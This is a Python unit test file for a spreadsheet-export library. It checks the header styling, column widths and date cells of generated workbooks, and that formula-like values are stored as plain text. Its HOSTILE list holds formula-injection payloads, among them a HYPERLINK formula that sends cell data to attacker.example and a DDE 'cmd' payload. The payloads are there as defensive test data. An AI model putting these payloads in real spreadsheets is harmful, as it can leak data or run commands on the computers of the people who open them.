"""Workbooks the system writes: the house header, typed dates, and text that never runs."""

from __future__ import annotations

import datetime
import io
import unittest
import zipfile

from openpyxl import load_workbook

from luutru.lib import spreadsheets as xlsx
from luutru.lib.spreadsheets import Column, FormSheet, table_xlsx

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "#N/A",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


class TableTests(unittest.TestCase):
    def test_a_table_has_the_house_header_frozen_widths_and_date_cells(self) -> None:
        columns = [Column("Mã hồ sơ", 24), Column("Tiêu đề hồ sơ", 60), Column("Ngày", 12)]
        data = table_xlsx(
            columns,
            [["H62.2024.01", "Hồ sơ giao đất năm 2024", datetime.date(2024, 3, 5)]],
            title="Hồ sơ",
        )

        book = load_workbook(io.BytesIO(data))
        sheet = book["Hồ sơ"]
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual([c.value for c in sheet[1]], ["Mã hồ sơ", "Tiêu đề hồ sơ", "Ngày"])
        self.assertTrue(all(c.font.b for c in sheet[1]))
        self.assertEqual(sheet["A1"].style, xlsx.HEAD)
        self.assertEqual(sheet.column_dimensions["B"].width, 60)
        day = sheet["C2"]
        self.assertEqual(day.value, datetime.datetime(2024, 3, 5))  # noqa: DTZ001 - Excel dates
        self.assertEqual(day.number_format, "DD/MM/YYYY")
        self.assertEqual(sheet["B2"].value, "Hồ sơ giao đất năm 2024")

    def test_values_that_look_like_formulas_are_written_as_text(self) -> None:
        data = table_xlsx([Column("Trích yếu")], [[value] for value in HOSTILE])

        self.assertNotIn("<f>", sheet_xml(data))  # no formula anywhere in the sheet
        sheet = load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        for row, value in enumerate(HOSTILE, start=2):
            with self.subTest(value=value):
                cell = sheet.cell(row, 1)
                self.assertEqual(cell.value, value)
                self.assertEqual(cell.data_type, "s")
        # Excel keeps these as text even when the cell is edited (the ' a user would type).
        self.assertTrue(sheet["A2"].quotePrefix)
        self.assertTrue(sheet["A5"].quotePrefix)

    def test_numbers_and_plain_text_are_left_as_they_are(self) -> None:
        data = table_xlsx([Column("STT"), Column("Ghi chú")], [[-5, "Bản chính"]])

        sheet = load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        self.assertEqual(sheet["A2"].value, -5)
        self.assertEqual(sheet["A2"].data_type, "n")
        self.assertFalse(sheet["B2"].quotePrefix)


class FormSheetTests(unittest.TestCase):
    def test_every_part_of_a_form_sheet_writes_formulas_as_text(self) -> None:
        workbook = xlsx.new_workbook()
        ws = workbook.active
        assert ws is not None
        sheet = FormSheet(ws, [Column("STT", 6), Column("Tên", 20), Column("Giá trị", 30)])
        sheet.title(HOSTILE[0])
        sheet.line(HOSTILE[1])
        sheet.fact("Gói", HOSTILE[2])
        sheet.header()
        sheet.rows([[1, HOSTILE[3], HOSTILE[4]]])
        sheet.total(HOSTILE[5], {1: 1})
        data = xlsx.workbook_bytes(workbook)

        self.assertNotIn("<f>", sheet_xml(data))
        written = [
            c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row
        ]
        for value in HOSTILE:
            self.assertIn(value, written)
